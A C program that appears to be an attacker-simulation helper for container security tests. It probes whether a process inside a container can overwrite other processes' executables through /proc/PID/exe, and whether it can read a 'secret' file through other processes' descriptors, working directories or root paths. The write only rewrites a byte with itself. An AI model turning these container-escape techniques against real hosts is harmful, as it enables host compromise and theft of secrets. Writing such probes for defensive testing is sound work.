/* What an attacker inside a container does that a shell is too slow or too high-level for.
 *
 * overwrite   for every process that comes by: keep its executable open, and as soon as it no longer runs, or at once
 *             if nothing runs it, open that for writing and write its first byte over itself. Tells what it wrote to.
 * enter PATH  for every process that comes by: look for a folder that has "secret" in it among its descriptors, as
 *             its working directory, and at PATH below its root. Tells what it found.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { KEPT = 64, PATH = 600 };

static int is_own(const struct stat *found, const char *path)
{
	struct stat own;
	return !stat(path, &own) && own.st_dev == found->st_dev && own.st_ino == found->st_ino;
}

static void try_to_write(int kept)
{
	char path[PATH], name[PATH] = "", first;
	snprintf(path, sizeof path, "/proc/self/fd/%d", kept);
	if (readlink(path, name, sizeof name - 1) < 0)
		return;
	int out = open(path, O_RDWR | O_CLOEXEC);
	if (out < 0)
		return;
	if (pread(out, &first, 1, 0) == 1 && pwrite(out, &first, 1, 0) == 1) {
		printf("wrote to %s\n", name);
		fflush(stdout);
	}
	close(out);
}

static void keep(const char *process, int *kept, int *next)
{
	char path[PATH];
	struct stat found;
	snprintf(path, sizeof path, "/proc/%s/exe", process);
	int exe = open(path, O_RDONLY | O_CLOEXEC);
	if (exe < 0)
		return;
	if (fstat(exe, &found) || is_own(&found, "/bin/busybox") || is_own(&found, "/proc/self/exe")) {
		close(exe);
		return;
	}
	printf("holds an executable\n");
	fflush(stdout);
	if (kept[*next % KEPT])
		close(kept[*next % KEPT]);
	kept[(*next)++ % KEPT] = exe;
}

static void overwrite(void)
{
	static int kept[KEPT], next;
	for (;;) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(proc));)
			if (isdigit((unsigned char)entry->d_name[0]))
				keep(entry->d_name, kept, &next);
		closedir(proc);
		for (int i = 0; i < KEPT; i++)
			if (kept[i])
				try_to_write(kept[i]);
	}
}

static void look(const char *folder)
{
	char path[PATH], text[PATH];
	snprintf(path, sizeof path, "%s/secret", folder);
	int in = open(path, O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return;
	ssize_t size = read(in, text, sizeof text);
	printf("found %.*s\n", (int)(size < 0 ? 0 : size), text);
	fflush(stdout);
	close(in);
}

static void enter(const char *outside)
{
	char path[PATH];
	for (;;) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(proc));) {
			if (!isdigit((unsigned char)entry->d_name[0]))
				continue;
			for (int fd = 3; fd < 16; fd++) {
				snprintf(path, sizeof path, "/proc/%s/fd/%d", entry->d_name, fd);
				look(path);
			}
			snprintf(path, sizeof path, "/proc/%s/cwd", entry->d_name);
			look(path);
			snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, outside);
			look(path);
		}
		closedir(proc);
	}
}

int main(int count, char **words)
{
	printf("ready\n");
	fflush(stdout);
	if (count == 2 && !strcmp(words[1], "overwrite"))
		overwrite();
	if (count == 3 && !strcmp(words[1], "enter"))
		enter(words[2]);
	return 2;
}
